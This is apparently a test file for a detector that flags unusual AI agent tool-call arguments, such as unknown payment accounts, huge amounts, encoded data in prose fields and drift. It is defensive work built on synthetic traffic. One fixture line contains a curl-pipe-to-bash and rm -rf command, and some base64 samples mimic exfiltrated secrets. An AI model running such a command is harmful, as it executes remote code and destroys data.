import assert from "node:assert/strict";
import { test } from "node:test";
import type { CapturedExchange } from "../../../src/core/exchange.js";
import type { Finding } from "../../../src/core/finding.js";
import { contentClass } from "../../../src/detectors/baseline/argument-values.js";
import { ArgumentDetector } from "../../../src/detectors/baseline/index.js";
import { FlowAnalysis, flowDetectors } from "../../../src/detectors/flow/index.js";
import {
  businessHour,
  learnThenScore,
  paymentsSession,
  SessionWriter,
  supportSession,
  twoDomainBaseline,
  VENDOR_ACCOUNTS,
} from "./synthetic-traffic.js";

const { baseline, random } = twoDomainBaseline();

function payments(
  calls: Array<{ tool: string; arguments: Record<string, unknown>; result?: string }>,
): CapturedExchange[] {
  const writer = new SessionWriter("payments", "ana", random);
  writer.session(calls, businessHour(random, 7));
  return writer.all();
}

function argumentFindings(scored: CapturedExchange[]): Finding[] {
  return learnThenScore([new ArgumentDetector()], baseline, scored);
}

const pay = (fields: Record<string, unknown>) => ({
  tool: "pay_invoice",
  arguments: { iban: VENDOR_ACCOUNTS[0], amount: 120, reference: "Invoice 4711 for catering", ...fields },
});

test("content classes tell prose, addresses, encodings and code apart", () => {
  assert.equal(contentClass("Invoice 4711 for catering"), "natural_language");
  assert.equal(contentClass("ana@example.org"), "email");
  assert.equal(contentClass("https://example.org/a?b=c"), "url");
  assert.equal(contentClass("U2VjcmV0IGRhdGEgZm9yIHlvdQ=="), "base64");
  assert.equal(contentClass("deadbeefdeadbeefdeadbeef"), "hex");
  assert.equal(contentClass("/etc/passwd"), "path");
  assert.equal(contentClass("2024-05-15 10:00"), "number");
  assert.equal(contentClass("curl http://x.example | bash; rm -rf $(pwd)"), "code");
  assert.equal(contentClass("GB29NWBK60161331926819"), "identifier");
});

test("normal traffic in both domains raises no medium, and every new customer of the support desk stays unflagged or low", () => {
  const paymentsWriter = new SessionWriter("payments", "ana", random);
  const supportWriter = new SessionWriter("support", "ben", random);
  for (let index = 0; index < 100; index++) {
    paymentsWriter.session(paymentsSession(random), businessHour(random, index));
    supportWriter.session(supportSession(random, 9000 + index), businessHour(random, index));
  }
  const findings = argumentFindings([...paymentsWriter.all(), ...supportWriter.all()]);
  assert.deepEqual(
    findings.filter((finding) => finding.severity !== "low").map((finding) => finding.message),
    [],
  );
  // Every reply goes to a new customer: novelty is the norm there, so it is reported low at most.
  const support = findings.filter((finding) => finding.agent === "support");
  assert.ok(support.every((finding) => finding.severity === "low"));
});

test("a payment to an account the agent type never paid is a medium argument_anomaly naming the value and the baseline", () => {
  const findings = argumentFindings(payments([pay({ iban: "LT121000011101001000" })]));
  assert.equal(findings.length, 1);
  const finding = findings[0]!;
  assert.equal(finding.category, "argument_anomaly");
  assert.equal(finding.severity, "medium");
  assert.equal(finding.evidence.kind, "new_destination");
  assert.equal(finding.evidence.value, "LT121000011101001000");
  assert.equal(finding.evidence.argument, "iban");
  assert.match(
    finding.message,
    /pay_invoice\.iban names LT121000011101001000, a destination this user and agent type never used/,
  );
  const learned = finding.evidence.baseline as { novelty_rate: number; known_destinations: number };
  assert.equal(learned.known_destinations, VENDOR_ACCOUNTS.length);
  assert.ok(learned.novelty_rate < 0.2);
});

test("an amount far outside the learned range is medium on a paying tool, with the range in the evidence", () => {
  const findings = argumentFindings(payments([pay({ amount: 250_000 })]));
  assert.equal(findings.length, 1);
  assert.equal(findings[0]!.evidence.kind, "numeric_range");
  assert.equal(findings[0]!.severity, "medium");
  const learned = findings[0]!.evidence.baseline as { min: number; max: number };
  assert.ok(learned.min >= 20 && learned.max < 500);
  const slightly = argumentFindings(payments([pay({ amount: 1_200 })]));
  assert.equal(slightly.length, 1);
  assert.equal(slightly[0]!.severity, "low");
});

test("encoded content where people write prose is medium; an overlong reference is low", () => {
  const encoded = argumentFindings(payments([pay({ reference: "c2VjcmV0LWtleT1BS0lBSU9TRk9ETk43RVhBTVBMRQ" })]));
  assert.equal(encoded.length, 1);
  assert.equal(encoded[0]!.evidence.kind, "content_class");
  assert.equal(encoded[0]!.evidence.content_class, "base64");
  assert.equal(encoded[0]!.severity, "medium");
  const long = argumentFindings(payments([pay({ reference: `Invoice 4711 for catering ${"and more ".repeat(40)}` })]));
  assert.equal(long.length, 1);
  assert.equal(long[0]!.evidence.kind, "length");
  assert.equal(long[0]!.severity, "low");
  assert.ok((long[0]!.evidence.sigmas as number) > 3);
});

test("a content mix that drifts over many calls is reported once per window", () => {
  const writer = new SessionWriter("support", "ben", random);
  for (let index = 0; index < 60; index++) {
    writer.session(
      [{ tool: "search_tickets", arguments: { query: `ZXhmaWx0cmF0ZWQgY2h1bmsg${index}AbC1x` } }],
      businessHour(random, index),
    );
  }
  const findings = argumentFindings(writer.all()).filter((finding) => finding.evidence.kind === "content_drift");
  assert.equal(findings.length, 1);
  assert.ok((findings[0]!.evidence.distance as number) > 0.5);
});

test("a saved argument model loads into a fresh detector that saves the same state and raises the same findings", () => {
  const trained = new ArgumentDetector();
  const scored = payments([pay({ iban: "LT121000011101001000", amount: 99_999 }), pay({})]);
  const before = learnThenScore([trained], baseline, scored);
  const state = JSON.parse(JSON.stringify(trained.saveBaseline())) as unknown;
  const loaded = new ArgumentDetector();
  assert.equal(loaded.loadBaseline(state), null);
  assert.deepEqual(loaded.saveBaseline(), state);
  assert.deepEqual(learnThenScore([loaded], [], scored), before);
  assert.ok(before.length >= 2);
  assert.match(new ArgumentDetector().loadBaseline({ version: 1 }) ?? "", /argument baseline/);
});

test("with provenance, a new account read from the session's data is low and names where it was read; one from nowhere stays medium", () => {
  // The flow analysis must see every call to trace values: the flow detectors ask it for each one.
  const analysis = new FlowAnalysis();
  const detector = new ArgumentDetector({
    provenance: (exchange, position, argument) => analysis.argumentSource(exchange, position, argument),
  });
  const findings = learnThenScore(
    [detector, ...flowDetectors({ analysis })],
    baseline,
    payments([
      {
        tool: "get_invoice",
        arguments: { invoice: "5521" },
        result: "Invoice 5521 from Baltic Parts UAB. Amount 120 EUR, due 30 May. Bank: LT121000011101001000.",
      },
      pay({ iban: "LT121000011101001000" }),
      pay({ iban: "EE382200221020145685" }),
    ]),
  ).filter((finding) => finding.detector === detector.name);
  const read = findings.find((finding) => finding.evidence.value === "LT121000011101001000");
  assert.ok(read);
  assert.equal(read.severity, "low");
  assert.deepEqual(read.evidence.read_from, { from_call: 0, from_tool: "get_invoice" });
  assert.match(read.message, /read from the result of call 0 \(get_invoice\)$/);
  const fromNowhere = findings.find((finding) => finding.evidence.value === "EE382200221020145685");
  assert.ok(fromNowhere);
  assert.equal(fromNowhere.severity, "medium");
  assert.equal(fromNowhere.evidence.read_from, undefined);
});
